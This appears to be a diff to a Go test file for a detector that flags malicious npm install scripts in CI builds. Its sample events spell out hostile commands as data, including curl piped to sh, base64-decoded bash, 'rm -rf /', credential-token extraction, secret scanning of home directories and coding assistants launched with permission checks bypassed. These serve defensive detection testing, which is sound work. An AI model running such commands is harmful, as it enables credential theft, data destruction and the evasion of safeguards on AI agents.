@@ -16,6 +16,7 @@ var (
 	npm      = &process{name: "node", exe: "/usr/bin/node", args: "/usr/bin/npm ci --include=dev", cwd: "/builds/project/", parent: launcher}
 	hook     = npm.child("sh", "-c node install.js")
 	script   = hook.child("node", "install.js")
+	manager  = in(hook.child("node", "install.js"), "/builds/project/node_modules/husky/")
 	build    = hook.child("node", "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js rebuild")
 )
 
@@ -23,6 +24,17 @@ func exe(p *process, file string, upper bool) *process {
 	q := *p
 	q.exe, q.upper = file, upper
 	return &q
+}
+
+func in(p *process, cwd string) *process {
+	q := *p
+	q.cwd = cwd
+	return &q
+}
+
+// sought is a program that p tried to execute and that is not there.
+func sought(p *process, exe, args string) *event {
+	return newEvent("execve", p, map[string]any{"evt.failed": true, "evt.res": "ENOENT", "evt.arg.exe": exe, "evt.arg.args": args})
 }
 
 func withEnv(p *process, kv ...string) *process {
@@ -104,6 +116,62 @@ var detections = []struct {
 		[]*event{reading(script, "/builds/project/.env"), reading(script, "/builds/project/.env.staging.local"), reading(script, "/builds/project/.npmrc")},
 		[]*event{reading(npm, "/builds/project/.npmrc"), reading(script, "/builds/project/node_modules/x/.env"),
 			reading(script, "/builds/project/.envelope"), reading(hook.child("node", "/usr/bin/npm ls"), "/builds/project/.npmrc")}},
+	{"Private key file read",
+		[]*event{reading(script, "/builds/project/deploy.pem"), reading(script, "/home/dev/vpn/office.ovpn"), reading(script, "/srv/tls/server.key")},
+		[]*event{reading(script, "/builds/project/node_modules/x/test/server.key"), reading(script, "/etc/ssl/certs/ca.pem"), reading(npm, "/builds/project/deploy.pem"), reading(script, "/builds/project/keys.js")}},
+	{"Credential file removed",
+		[]*event{onPath("unlink", script, "/root/.ssh/id_rsa"), onPath("unlinkat", script, "/home/dev/.bash_history"), onPath("truncate", script, "/root/.aws/credentials")},
+		[]*event{onPath("unlink", script, "/root/.cache/x"), onPath("unlink", npm, "/root/.ssh/id_rsa")}},
+	{"Credential tool run",
+		[]*event{executing(script.child("gh", "auth token")), executing(hook.child("git", "credential fill")), sought(script, "gcloud", "auth print-access-token"), sought(script, "/opt/bin/aws", "sts get-caller-identity")},
+		[]*event{executing(hook.child("git", "config core.hooksPath .husky")), executing(script), sought(script, "python2", ""), executing(hook.child("node", "aws.js"))}},
+	{"Environment listed",
+		[]*event{executing(script.child("env", "")), executing(script.child("printenv", "")), executing(npm.child("sh", "-c env > x")), executing(script.child("sh", "-c export -p")), executing(script.child("busybox", "env")),
+			newEvent("openat", script, map[string]any{"fd.name": "/proc/7/environ", "evt.arg.name": "/proc/self/environ", "evt.is_open_read": true, "evt.failed": false})},
+		[]*event{executing(script.child("env", "FOO=1 node x.js")), executing(npm.child("sh", "-c env FOO=1 node x.js")), executing(npm.child("sh", "-c node setenv")), reading(script, "/proc/self/cgroup")}},
+	{"Key agent or container engine contacted",
+		[]*event{newEvent("connect", script, map[string]any{"fd.typechar": "u", "fd.name": "/var/run/docker.sock"}), newEvent("connect", script, map[string]any{"fd.typechar": "u", "fd.name": "/tmp/ssh-Ab/agent.7"})},
+		[]*event{newEvent("connect", script, map[string]any{"fd.typechar": "u", "fd.name": "/tmp/x.sock"}), newEvent("connect", npm, map[string]any{"fd.typechar": "u", "fd.name": "/run/docker.sock"})}},
+	{"Secret scanner run",
+		[]*event{executing(script.child("trufflehog", "filesystem /")), sought(script, "gitleaks", "detect"), executing(npm.child("sh", "-c ./trufflehog filesystem ~"))},
+		[]*event{executing(script), sought(script, "node-pre-gyp", "install")}},
+	{"File system searched",
+		[]*event{executing(script.child("find", "/ -name *.pem")), executing(script.child("find", "/root -type f")), executing(script.child("busybox", "find /home -name x")), executing(script.child("grep", "-rIl BEGIN /root")),
+			executing(script.child("tar", "cf x.tar /root")), executing(script.child("rg", "AKIA /home/dev")), executing(script.child("cp", "-r /home/dev/ x"))},
+		[]*event{executing(script.child("find", ". -name *.js")), executing(script.child("find", "/usr/include -name zlib.h")), executing(script.child("find", "/builds/project -name x")), executing(script.child("grep", "-q x /etc/os-release")),
+			executing(script.child("tar", "xf x.tar")), executing(script.child("cp", "-r src dist")), executing(script.child("ls", "-l /etc"))}},
+	{"Home or system wiped by a command",
+		[]*event{executing(script.child("rm", "-rf /root")), executing(script.child("rm", "-rf /")), executing(npm.child("sh", "-c rm -rf ~/*")), executing(npm.child("sh", `-c rm -rf "$X"; rm -rf $HOME`)), executing(script.child("find", "/home/dev -type f -delete"))},
+		[]*event{executing(script.child("rm", "-rf build")), executing(script.child("rm", "-rf /tmp/x")), executing(script.child("rm", "-rf /root/.cache/x")), executing(npm.child("sh", "-c rm -rf /tmp/x && node x.js"))}},
+	{"Coding assistant run without its checks",
+		[]*event{executing(script.child("claude", "--dangerously-skip-permissions -p x")), sought(script, "gemini", "--yolo -p x"), executing(npm.child("sh", "-c q chat --trust-all-tools x")), executing(script.child("helper", "-p x --permission-mode bypassPermissions"))},
+		[]*event{executing(script.child("claude", "--version")), sought(script, "claude", "-p x"), executing(script)}},
+	{"Coding assistant run",
+		[]*event{executing(script.child("claude", "--version")), sought(script, "codex", "exec x"), sought(script, "q", "chat"), executing(npm.child("sh", "-c npx -y @anthropic-ai/claude-code -p x")), executing(npm.child("sh", "-c command -v gemini")), executing(script.child("which", "claude"))},
+		[]*event{executing(script), executing(script.child("which", "python3")), sought(script, "jq", ".")}},
+	{"CI runner registered",
+		[]*event{executing(script.child("gitlab-runner", "register --url https://gitlab.example.com")), sought(script, "act_runner", "register"), executing(script.child("bash", "./config.sh --url https://code.example.com/a --token T --unattended")),
+			executing(script.child("Runner.Listener", "run")), writing(script, "/root/.dev/.runner"), writing(script, "/root/actions-runner/run.sh")},
+		[]*event{executing(script.child("sh", "config.sh --prefix=/usr")), executing(script.child("curl", "--url https://x.example.com")), sought(script, "cmake", "--version"), reading(script, "/root/.dev/.runner")}},
+	{"System file written",
+		[]*event{writing(script, "/usr/local/bin/node"), opening(script, "/usr/lib/node_modules/npm/index.js", "O_WRONLY|O_TRUNC", "EROFS"), writing(script, "/etc/hosts"), twoPaths("rename", script, "/tmp/x", "/usr/bin/git")},
+		[]*event{reading(script, "/usr/bin/node"), opening(script, "/usr/lib/python3/__pycache__/x.pyc", "O_WRONLY|O_CREAT", "EROFS"), writing(script, "/etc/cron.d/x"), writing(npm, "/usr/lib/x")}},
+	{"Code piped to an interpreter",
+		[]*event{executing(hook.child("sh", "")), executing(hook.child("bash", "-s x")), executing(hook.child("node", "-")), executing(hook.child("python3", "")), executing(hook.child("busybox", "sh"))},
+		[]*event{executing(hook.child("sh", "-c x")), executing(hook.child("bash", "build.sh")), executing(hook.child("node", "x.js -")), executing(script.child("sh", ""))}},
+	{"Data file executed as code",
+		[]*event{executing(hook.child("sh", "tests/files/bad-3.xz")), executing(hook.child("node", "--no-warnings assets/logo.png")), executing(hook.child("python3", "./data.json x")), executing(hook.child("bash", "build-to-host.m4"))},
+		[]*event{executing(script), executing(hook.child("sh", "configure --prefix=x.txt")), executing(hook.child("node", "build.js data.json")), executing(hook.child("sh", "-c cat x.txt")), executing(hook.child("bash", "install.sh"))}},
+	{"Code preloaded into programs",
+		[]*event{executing(withEnv(script.child("git", "status"), "LD_PRELOAD", "/tmp/x.so"))},
+		[]*event{executing(withEnv(script.child("git", "status"), "PATH", "/bin"))}},
+	{"Debugger run",
+		[]*event{executing(script.child("gdb", "-p 1")), sought(script, "gcore", "1")},
+		[]*event{executing(script)}},
+	{"File system mounted", []*event{newEvent("mount", script, nil)}, []*event{newEvent("mount", npm, nil), newEvent("bpf", script, nil)}},
+	{"Secret store or cluster contacted",
+		[]*event{network("connect", script, "127.0.0.1:8200", "tcp"), network("connect", script, "10.96.0.1:6443", "tcp")},
+		[]*event{network("connect", script, "127.0.0.1:4873", "tcp"), network("connect", npm, "127.0.0.1:8200", "tcp"), network("sendto", script, "10.96.0.1:6443", "tcp")}},
 	{"Memory or environment of another process read",
 		[]*event{reading(script, "/proc/1/environ"), reading(script, "/proc/17/mem"), newEvent("process_vm_readv", script, nil)},
 		[]*event{reading(script, "/proc/self/environ"), reading(script, "/proc/17/maps"), reading(script, "/proc/17/stat"), reading(npm, "/proc/1/environ")}},
@@ -140,8 +208,12 @@ var detections = []struct {
 		[]*event{writing(script, "/builds/project/.vscode/tasks.json"), writing(script, "/builds/project/.github/workflows/ci.yml"), writing(script, "/builds/project/.claude/settings.json")},
 		[]*event{writing(script, "/builds/project/node_modules/x/.github/workflows/ci.yml"), writing(script, "/root/.claude/settings.json"), reading(script, "/builds/project/.vscode/tasks.json")}},
 	{"Git hook written",
-		[]*event{writing(script, "/builds/project/.git/hooks/pre-commit"), twoPaths("rename", script, "/builds/project/x", "/builds/project/.git/hooks/post-merge")},
-		[]*event{writing(script, "/builds/project/.husky/_/husky.sh"), writing(script, "/builds/project/.git/config")}},
+		[]*event{writing(script, "/builds/project/.git/hooks/pre-commit"), twoPaths("rename", script, "/builds/project/x", "/builds/project/.git/hooks/post-merge"),
+			writing(script, "/builds/project/.git/config"), twoPaths("symlink", script, "/builds/project/.git/hooks/pre-push", "/tmp/x")},
+		[]*event{writing(script, "/builds/project/.husky/_/husky.sh"), writing(manager, "/builds/project/.git/hooks/pre-commit"), reading(script, "/builds/project/.git/config")}},
+	{"Git hook written by a hook manager",
+		[]*event{writing(manager, "/builds/project/.git/hooks/pre-commit")},
+		[]*event{writing(script, "/builds/project/.git/hooks/pre-commit"), writing(manager, "/builds/project/x")}},
 	{"Scheduler or service manager run",
 		[]*event{executing(script.child("crontab", "-")), executing(script.child("systemctl", "--user enable x"))},
 		[]*event{executing(script.child("cat", "crontab"))}},
@@ -175,11 +247,12 @@ var detections = []struct {
 			executing(npm.child("sh", "-c curl -s https://x.example.com/a.sh | sh")),
 			executing(script.child("bash", "-c echo aWQK | base64 -d | bash")),
 			executing(npm.child("sh", `-c eval "$X"`)),
+			executing(npm.child("sh", "-c tail -c +9 x.bin | /usr/bin/perl")), executing(npm.child("sh", "-c cat x|node")),
 		},
-		[]*event{executing(npm.child("sh", "-c node install.js || exit 0")), executing(npm.child("sh", "-c node-gyp-build || node-gyp rebuild"))}},
+		[]*event{executing(npm.child("sh", "-c node install.js || exit 0")), executing(npm.child("sh", "-c node-gyp-build || node-gyp rebuild")), executing(npm.child("sh", "-c x || node y.js"))}},
 	{"Downloader run",
-		[]*event{executing(script.child("curl", "-s https://x.example.com")), executing(hook.child("wget", "x"))},
-		[]*event{executing(hook.child("node-gyp", "rebuild"))}},
+		[]*event{executing(script.child("curl", "-s https://x.example.com")), executing(hook.child("wget", "x")), executing(exe(hook.child("get", "x"), "/usr/bin/curl", false)), executing(hook.child("busybox", "wget x")), sought(script, "aria2c", "x")},
+		[]*event{executing(hook.child("node-gyp", "rebuild")), sought(script, "node-pre-gyp", "x")}},
 	{"Dropped binary executed",
 		[]*event{
 			executing(exe(script.child("x", ""), "/tmp/x", true)), executing(exe(script.child("x", ""), "/dev/shm/x", false)),
@@ -339,7 +412,7 @@ func TestBenignInstallsAreNotJudged(t *testing.T) {
 		executing(exe(script.child("esbuild", "--version"), "/builds/project/node_modules/@esbuild/linux-x64/bin/esbuild", true)),
 		executing(exe(build.child("conftest", ""), "/builds/project/node_modules/x/build/conftest", true)),
 		executing(hook.child("git", "config core.hooksPath .husky")),
-		writing(script, "/builds/project/.git/hooks/pre-commit"),
+		writing(manager, "/builds/project/.git/hooks/pre-commit"),
 		writing(script, "/builds/project/node_modules/evil/lib/generated.js"),
 		writing(script, "/root/.npm/_logs/debug-0.log"), writing(script, "/root/.cache/node-gyp/22.0.0/installVersion"),
 		reading(script, "/proc/meminfo"), reading(script, "/proc/self/cgroup"), reading(script, "/etc/passwd"),
